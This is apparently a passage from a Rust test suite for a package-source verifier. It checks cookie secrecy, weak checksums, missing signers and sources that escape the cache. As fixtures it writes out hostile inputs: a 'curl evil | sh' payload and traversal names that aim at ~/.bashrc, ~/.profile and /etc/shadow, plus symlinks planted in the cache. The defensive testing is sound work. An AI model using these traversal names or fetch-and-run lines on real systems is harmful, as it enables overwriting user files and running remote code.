            "POST /pkgbase/good/comments HTTP/1.1",
            "POST /pkgbase/stale/comments HTTP/1.1",
        ]
    );
    let good = requests
        .iter()
        .find(|r| r.line.contains("/good/"))
        .expect("good");
    assert_eq!(
        good.header("cookie"),
        Some("AURSID=s3cr3t; AURREMEMBER=True")
    );
    assert_eq!(
        good.header("content-type"),
        Some("application/x-www-form-urlencoded")
    );
    let comment = posted
        .of_type("comment")
        .into_iter()
        .find(|c| c["base"] == "good")
        .expect("comment");
    let form_fields = good.form();
    assert_eq!(form_fields.len(), 2, "{form_fields:?}");
    assert_eq!(
        form_fields["comment"],
        comment["markdown"].as_str().expect("markdown")
    );
    assert_eq!(form_fields["enable_notifications"], "0");
    let output = format!("{:?}{}", posted.records, posted.stderr);
    assert!(
        !output.contains("s3cr3t"),
        "the session never shows: {output}"
    );
}

/// md5-only sums, signatures without `validpgpkeys`, and a local source that climbs out of the
/// PKGBUILD's folder.
#[test]
fn weak_sums_missing_signers_and_climbing_paths_are_flagged() {
    let upstream = tempfile::tempdir().expect("tempdir");
    let key = SigningKey::generate("someone <s@x.invalid>").expect("key");
    fs::write(upstream.path().join("a.tar.gz"), b"a").expect("write");
    fs::write(
        upstream.path().join("a.tar.gz.sig"),
        key.sign_detached(&b"a"[..]).expect("sign"),
    )
    .expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let work = tempfile::tempdir().expect("tempdir");
    let folder = work.path().join("weak");
    fs::create_dir_all(&folder).expect("folder");
    let srcinfo = format!(
        "pkgbase = weak\n\tpkgver = 1\n\tpkgrel = 1\n\tarch = any\n\tsource = {url}/a.tar.gz\n\tsource = {url}/a.tar.gz.sig\n\tmd5sums = 0cc175b9c0f1b6a831c399e269772661\n\tmd5sums = SKIP\n\npkgname = weak\n",
        url = server.url()
    );
    fs::write(folder.join(".SRCINFO"), srcinfo).expect("write");
    let climbing = work.path().join("climbing");
    fs::create_dir_all(&climbing).expect("folder");
    fs::write(climbing.join(".SRCINFO"), "pkgbase = climbing\n\tpkgver = 1\n\tpkgrel = 1\n\tarch = any\n\tsource = ../../etc/shadow\n\tsha256sums = SKIP\n\npkgname = climbing\n").expect("write");
    let cache = work.path().join("cache").display().to_string();
    let run = verify(&[
        "--cache",
        &cache,
        &folder.display().to_string(),
        &climbing.display().to_string(),
    ]);
    let found = checks(&run);
    for check in [
        "weak-checksums",
        "validpgpkeys-missing",
        "signature-invalid",
    ] {
        assert!(
            found.iter().any(|c| c == check),
            "{check} missing: {found:?}"
        );
    }
    // alpm-srcinfo refuses a local source with path components before mc-verify sees it.
    let refused = run.of_type("error");
    assert!(
        refused.iter().any(|e| e["kind"] == "bad_srcinfo"
            && e["message"]
                .as_str()
                .is_some_and(|m| m.contains("climbing"))),
        "{refused:?}"
    );
}

/// Runs mc-verify with `home` as HOME and no XDG_CACHE_HOME, so its default cache is
/// `HOME/.cache/minicluster/sources`: a name that climbs out of the cache reaches the files a
/// user cares about.
fn verify_at_home(home: &Path, args: &[&str]) -> Run {
    let output = Command::new(bin("mc-verify"))
        .args(args)
        .env("HOME", home)
        .env_remove("XDG_CACHE_HOME")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("mc-verify runs");
    pipeline_tests::parse_output(&output)
}

#[test]
fn source_names_that_leave_the_cache_are_refused_and_nothing_outside_is_touched() {
    require("git", "git");
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("payload"), b"curl evil | sh\n").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let url = format!("{}/payload", server.url());
    let home = tempfile::tempdir().expect("tempdir");
    let (bashrc, profile) = (home.path().join(".bashrc"), home.path().join(".profile"));
    fs::write(&bashrc, "original bashrc\n").expect("write");
    fs::write(&profile, "original profile\n").expect("write");
    let work = tempfile::tempdir().expect("tempdir");
    let escape = work.path().join("escape");
    let absolute = home.path().join("absolute");
    let sources = [
        // Would overwrite ~/.bashrc with the payload (its checksum matches)...
        (
            format!("../../../../.bashrc::{url}"),
            sha256(b"curl evil | sh\n"),
        ),
        // ...and delete ~/.profile, whose checksum does not.
        (format!("../../../../.profile::{url}"), sha256(b"other")),
        (format!("{}::{url}", absolute.display()), "SKIP".to_owned()),
        (
            format!("..::git+{}/app.git", server.url()),
            "SKIP".to_owned(),
        ),
        (
            format!("../../tmp::git+{}/app.git", server.url()),
            "SKIP".to_owned(),
        ),
        // No name: makepkg's would be what follows the query's last `/`, here `..`.
        (format!("{url}?f=/.."), "SKIP".to_owned()),
        (format!("fine.txt::{url}"), "SKIP".to_owned()),
    ];
    pkgbuild(&escape, "escape", &sources, "", "pkgname=escape\n");
    // Links planted inside the cache: a cached file and a package base's folder.
    let cache = home.path().join(".cache/minicluster/sources");
    fs::create_dir_all(cache.join("planted")).expect("cache");
    std::os::unix::fs::symlink(&profile, cache.join("planted/src.tar")).expect("symlink");
    std::os::unix::fs::symlink(home.path(), cache.join("linked")).expect("symlink");
    let planted = work.path().join("planted");
    let wrong = [(format!("src.tar::{url}"), sha256(b"other"))];
    pkgbuild(&planted, "planted", &wrong, "", "pkgname=planted\n");
    let linked = work.path().join("linked");
    let into_home = [(format!(".bashrc::{url}"), sha256(b"curl evil | sh\n"))];
    pkgbuild(&linked, "linked", &into_home, "", "pkgname=linked\n");
    let folders = [&escape, &planted, &linked].map(|f| f.display().to_string());
    let run = verify_at_home(home.path(), &[&folders[0], &folders[1], &folders[2]]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(fs::read(&bashrc).expect("bashrc"), b"original bashrc\n");
    assert_eq!(fs::read(&profile).expect("profile"), b"original profile\n");
    assert!(!absolute.exists() && !home.path().join("tmp").exists());
    assert_eq!(
        server.requests(),
        Vec::<String>::new(),
        "nothing is fetched"
    );
    let hostile: Vec<&serde_json::Value> = run
        .of_type("finding")
        .into_iter()
        .filter(|f| f["check"] == "hostile-source" && f["severity"] == "error")
        .collect();
    assert_eq!(hostile.len(), 6, "{hostile:#?}");
    let verdicts = by_file(&run);
    assert_eq!(verdicts["fine.txt"], "unverified", "not fetched either");
    assert_eq!(verdicts["src.tar"], "unreachable");
    assert_eq!(verdicts[".bashrc"], "unreachable");
    let left = fs::read_link(cache.join("planted/src.tar")).expect("the planted link stays");
    assert_eq!(left, profile);
}
